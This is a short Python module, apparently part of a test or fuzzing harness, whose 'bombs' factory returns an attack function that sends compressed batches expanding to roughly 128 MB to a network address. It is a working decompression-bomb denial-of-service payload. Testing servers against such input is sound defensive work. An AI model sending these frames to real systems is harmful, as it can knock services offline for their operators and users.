"""Batches that are small on the wire and large when they are decompressed."""

from __future__ import annotations

from collections.abc import Callable

from ..bombs import CODECS, MB, bomb
from ..sockets import framed, produced
from .exchanges import Address, answered, connected


def bombs(codec: str) -> Callable[[Address, float], None]:
    def attack(address: Address, scale: float) -> None:
        frame = framed(produced(bomb(CODECS[codec], int(128 * MB * scale)), "evil"), 9)
        ask = connected(address, 10)
        for _ in range(2):
            answered(ask, [frame] * len(ask))

    return attack
